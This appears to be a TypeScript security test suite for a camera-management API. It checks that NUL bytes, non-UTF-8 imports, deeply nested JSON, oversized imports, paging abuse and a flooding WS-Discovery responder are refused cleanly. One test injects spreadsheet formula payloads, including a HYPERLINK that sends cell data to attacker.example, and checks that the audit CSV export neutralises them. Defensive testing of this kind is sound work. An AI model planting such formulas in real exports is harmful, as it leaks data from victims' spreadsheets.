import { createSocket, Socket } from 'node:dgram';
import type { Geometry } from '@tiergate/domain';
import { buildProbeMatches, parseProbe } from '@tiergate/onvif';
import { DiscoveryModule } from '../../apps/discovery/src/discovery.module';
import { GatewayModule } from '../../apps/gateway/src/gateway.module';
import { PartitionerModule } from '../../apps/partitioner/src/partitioner.module';
import { seedCameras, seedJurisdictions } from '../support/district.fixture';
import { startTestProcess, TestProcess } from '../support/harness';

// Issue 11 items 13 (quotas, paging) and 14 (NUL characters, deep JSON): bad input answers 400/413
// naming the field or the cap, never a 500. Addresses: 127.0.85.x (nothing is contacted).
const NET = '127.0.85';
const square = (x: number, y: number, d: number): Geometry => ({ type: 'Polygon', coordinates: [[[x, y], [x + d, y], [x + d, y + d], [x, y + d], [x, y]]] });
const CSV_HEADER = 'name,lat,lon,tags,onvif_host,onvif_port,username,password,rtsp_url';
const FLOOD_HOST = `${NET}.9`;
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** A WS-Discovery host that answers one probe with `datagrams` × `perDatagram` distinct devices (16,000 in the report). */
async function startFloodingResponder(datagrams: number, perDatagram: number): Promise<Socket> {
  const s = createSocket('udp4');
  s.on('message', (msg, rinfo) => {
    const probeId = parseProbe(msg)?.messageId;
    if (!probeId) return;
    for (let d = 0; d < datagrams; d++) {
      const matches = Array.from({ length: perDatagram }, (_, i) => {
        const n = d * perDatagram + i;
        return {
          endpointReference: `urn:uuid:00000000-0000-4000-8000-${String(n).padStart(12, '0')}`,
          types: ['dn:NetworkVideoTransmitter'],
          scopes: [],
          xaddrs: [`http://${FLOOD_HOST}:${20000 + n}/onvif/device_service`],
          metadataVersion: 1,
        };
      });
      s.send(buildProbeMatches({ relatesTo: probeId, matches }), rinfo.port, rinfo.address, () => undefined);
    }
  });
  await new Promise<void>((resolve) => s.bind(3702, FLOOD_HOST, () => resolve()));
  return s;
}

describe('security: hostile input and quotas', () => {
  let tg: TestProcess;
  let admin: string;
  let ids: Map<string, string>;
  let flood: Socket;

  beforeAll(async () => {
    flood = await startFloodingResponder(40, 50);
    tg = await startTestProcess(
      { name: 'quotas-test', modules: [PartitionerModule, DiscoveryModule, GatewayModule], http: true },
      {
        'limits.importCameraRows': 50,
        'limits.importIncidentRows': 40,
        'limits.maxPageSize': 20,
        'limits.defaultPageSize': 5,
        'discovery.maxFindingsPerHost': 4,
        'discovery.probeTimeoutMs': 400,
        'discovery.ports': [80],
      },
    );
    admin = await tg.login();
    ids = await seedJurisdictions(tg, [{ code: 'QT-S', name: 'Station Q', tier: 'station', parentCode: null, geometry: square(121, 31, 0.2) }]);
  });
  afterAll(async () => {
    await tg?.stop();
    await new Promise<void>((r) => (flood ? flood.close(() => r()) : r()));
  });

  describe('NUL characters and deep JSON (item 14)', () => {
    it('a NUL in a JSON field answers 400 naming the field', async () => {
      const res = await tg.call('POST', '/api/cameras', { token: admin, body: { name: 'cam\u0000era', rtspUrl: `rtsp://${NET}.1/x`, jurisdictionId: ids.get('QT-S') } });
      expect(res.status).toBe(400);
      expect(res.body.code).toBe('VALIDATION_FAILED');
      expect(res.body.message).toMatch(/^name: .*NUL/);
      const nested = await tg.call('POST', '/api/cameras', { token: admin, body: { name: 'c', onvif: { host: `${NET}.1`, port: 80, username: 'a\u0000', password: 'p' } } });
      expect([nested.status, nested.body.message]).toEqual([400, expect.stringMatching(/^onvif\.username: /)]);
    });

    it('a NUL in a CSV name answers 400 with the line and the column', async () => {
      const res = await tg.call('POST', '/api/cameras/import', { token: admin, raw: `${CSV_HEADER}\nbad\u0000name,31.05,121.05,,,,,,rtsp://${NET}.2/x\n` });
      expect(res.status).toBe(400);
      expect(res.body.errors).toEqual([{ line: 2, message: 'name must not contain a NUL character' }]);
      const incidents = await tg.call('POST', '/api/incidents/import', { token: admin, raw: 'id,type,occurred_at,lat,lon\ni\u00001,theft,2024-01-01T00:00:00Z,31.05,121.05\n' });
      expect(incidents.status).toBe(400);
      expect(JSON.stringify(incidents.body.errors)).toMatch(/id must not contain a NUL character/);
    });

    it('every import refuses bytes that are not UTF-8 with 400 naming the line, raw or multipart, and takes a BOM + CRLF export', async () => {
      const latin1 = Buffer.concat([Buffer.from(`${CSV_HEADER}\r\nCaf`), Buffer.from([0xe9]), Buffer.from(`,31.05,121.05,,,,,,rtsp://${NET}.3/x\r\n`)]);
      for (const path of ['/api/cameras/import', '/api/incidents/import']) {
        const raw = await tg.call('POST', path, { token: admin, raw: latin1 });
        expect({ path, status: raw.status, body: raw.body }).toEqual({ path, status: 400, body: expect.objectContaining({ code: 'VALIDATION_FAILED', message: expect.stringMatching(/^body: is not UTF-8 text \(line 2, /) }) });
      }
      const form = new FormData();
      form.append('file', new Blob([Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x7d])], { type: 'application/geo+json' }), 'tree.geojson');
      const multipart = await fetch(`${tg.url}/api/jurisdictions/import`, { method: 'POST', headers: { authorization: `Bearer ${admin}` }, body: form });
      expect([multipart.status, (await multipart.json()).message]).toEqual([400, expect.stringMatching(/^file: is not UTF-8 text \(line 1, byte 3\)/)]);
      const bomCrlf = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`${CSV_HEADER}\r\n"Café, ""north""",31.05,121.05,,,,,,rtsp://${NET}.4/x\r\n`)]);
      const ok = await tg.call('POST', '/api/cameras/import', { token: admin, raw: bomCrlf, contentType: 'text/csv; charset=utf-8' });
      expect([ok.status, ok.body]).toEqual([201, { created: 1, errors: [] }]);
      expect((await tg.call('GET', '/api/cameras?q=Caf', { token: admin })).body.map((c: { name: string }) => c.name)).toEqual(['Café, "north"']);
    });

    it('a NUL in a GeoJSON property answers 400 naming its path', async () => {
      const fc = { type: 'FeatureCollection', features: [{ type: 'Feature', properties: { code: 'QT-X', name: 'x\u0000', tier: 'post', parentCode: 'QT-S' }, geometry: square(121.01, 31.01, 0.01) }] };
      const res = await tg.call('POST', '/api/jurisdictions/import', { token: admin, raw: JSON.stringify(fc), contentType: 'application/geo+json' });
      expect(res.status).toBe(400);
      expect(res.body.message).toMatch(/^features\[0\]\.properties\.name: /);
    });

    it('100,000-deep JSON answers 400, not 500, and the server answers at once after it', async () => {
      const deep = `{"name":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
      for (const path of ['/api/cameras', '/api/jurisdictions/import', '/api/grants']) {
        const res = await tg.call('POST', path, { token: admin, raw: deep, contentType: 'application/json' });
        expect({ path, status: res.status, code: res.body?.code }).toEqual({ path, status: 400, code: 'VALIDATION_FAILED' });
        expect(res.body.message).toMatch(/^name.*: is nested deeper than 64 levels/);
      }
      expect((await tg.call('GET', '/api/health')).status).toBe(200);
    });
  });

  describe('quotas and paging (item 13)', () => {
    it('a camera CSV over limits.importCameraRows is refused whole with 413 naming the cap', async () => {
      const rows = Array.from({ length: 51 }, (_, i) => `cam-${i},31.05,121.05,,,,,,rtsp://${NET}.100:${1000 + i}/x`);
      const res = await tg.call('POST', '/api/cameras/import', { token: admin, raw: `${CSV_HEADER}\n${rows.join('\n')}\n` });
      expect(res.status).toBe(413);
      expect(res.body.code).toBe('PAYLOAD_TOO_LARGE');
      expect(res.body.message).toMatch(/51 camera rows.*at most 50 \(limits\.importCameraRows\)/);
      const list = await tg.call('GET', '/api/cameras?q=cam-', { token: admin });
      expect(list.body).toEqual([]);
      const ok = await tg.call('POST', '/api/cameras/import', { token: admin, raw: `${CSV_HEADER}\n${rows.slice(0, 50).join('\n')}\n` });
      expect([ok.status, ok.body.created]).toEqual([201, 50]);
    });

    it('an incident file over limits.importIncidentRows is refused whole with 413 naming the cap', async () => {
      const rows = Array.from({ length: 41 }, (_, i) => `q-${i},theft,2024-01-01T00:00:00Z,31.05,121.05`);
      const res = await tg.call('POST', '/api/incidents/import', { token: admin, raw: `id,type,occurred_at,lat,lon\n${rows.join('\n')}\n` });
      expect(res.status).toBe(413);
      expect(res.body.message).toMatch(/41 incidents.*at most 40 \(limits\.importIncidentRows\)/);
    });

    it('GET /api/cameras pages with limit/offset and X-Total-Count, caps limit, and still answers every match without limit (contract)', async () => {
      await seedCameras(tg, Array.from({ length: 12 }, (_, i) => ({ name: `page-${String(i).padStart(2, '0')}`, lon: 121.1, lat: 31.1, jurisdictionId: ids.get('QT-S')! })));
      const first = await tg.call('GET', '/api/cameras?q=page-&limit=5', { token: admin });
      expect(first.body.map((c: any) => c.name)).toEqual(['page-00', 'page-01', 'page-02', 'page-03', 'page-04']);
      expect(first.headers.get('x-total-count')).toBe('12');
      const last = await tg.call('GET', '/api/cameras?q=page-&limit=5&offset=10', { token: admin });
      expect(last.body.map((c: any) => c.name)).toEqual(['page-10', 'page-11']);
      const all = await tg.call('GET', '/api/cameras?q=page-', { token: admin });
      expect([all.body.length, all.headers.get('x-total-count')]).toEqual([12, '12']);
      const tooBig = await tg.call('GET', '/api/cameras?limit=21', { token: admin });
      expect([tooBig.status, tooBig.body.message]).toEqual([400, expect.stringMatching(/^limit: at most 20/)]);
    });

    it('GET /api/grants is paged by default (limits.defaultPageSize) with X-Total-Count', async () => {
      const [cam] = await seedCameras(tg, [{ name: 'granted', lon: 121.1, lat: 31.1, jurisdictionId: ids.get('QT-S')! }]);
      const expiresAt = new Date(Date.now() + 3_600_000).toISOString();
      for (let i = 0; i < 7; i++) {
        const g = await tg.call('POST', '/api/grants', { token: admin, body: { cameraId: cam, granteeJurisdictionId: ids.get('QT-S'), expiresAt, reason: `g${i}` } });
        expect(g.status).toBe(201);
      }
      const page = await tg.call('GET', '/api/grants', { token: admin });
      expect([page.body.length, page.headers.get('x-total-count')]).toEqual([5, '7']);
      const rest = await tg.call('GET', '/api/grants?offset=5', { token: admin });
      expect(rest.body.length).toBe(2);
      expect((await tg.call('GET', '/api/grants?limit=21', { token: admin })).status).toBe(400);
    });

    it('one WS-Discovery host answering 2,000 devices adds only discovery.maxFindingsPerHost findings', async () => {
      const start = await tg.call('POST', '/api/discovery/sweeps', { token: admin, body: { cidr: `${FLOOD_HOST}/32`, ports: [80] } });
      expect(start.status).toBe(202);
      let sweep: any;
      for (let i = 0; i < 100; i++) {
        sweep = (await tg.call('GET', `/api/discovery/sweeps/${start.body.id}`, { token: admin })).body;
        if (sweep.state !== 'running') break;
        await sleep(100);
      }
      expect(sweep.state).toBe('done');
      expect(sweep.found.length).toBe(4);
      expect(new Set(sweep.found.map((f: any) => f.host))).toEqual(new Set([FLOOD_HOST]));
    });
  });

  describe('CSV export (item 17)', () => {
    it('GET /api/audit?format=csv neutralises formula cells that an attacker put in the log', async () => {
      const payload = '=HYPERLINK("http://attacker.example/?"&A1,"open")';
      await tg.call('POST', '/api/auth/login', { body: { username: payload, password: 'wrong-password' } });
      await tg.call('POST', '/api/auth/login', { body: { username: '@SUM(1+1)*cmd', password: 'wrong-password' } });
      const res = await tg.call('GET', '/api/audit?format=csv&action=auth.login-failed', { token: admin });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
      expect(res.headers.get('content-disposition')).toMatch(/attachment/);
      const lines = res.text.trimEnd().split('\r\n');
      expect(lines[0]).toBe('id,at,actorId,actorName,action,targetType,targetId,ip,details,targetName');
      expect(res.text).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""open"")"`);
      expect(res.text).toContain(",'@SUM(1+1)*cmd,");
      // no cell of any line starts with a formula character
      for (const line of lines.slice(1)) for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
      const json = await tg.call('GET', '/api/audit?action=auth.login-failed', { token: admin });
      expect(json.body.map((e: any) => e.actorName)).toContain(payload);
    });
  });
});
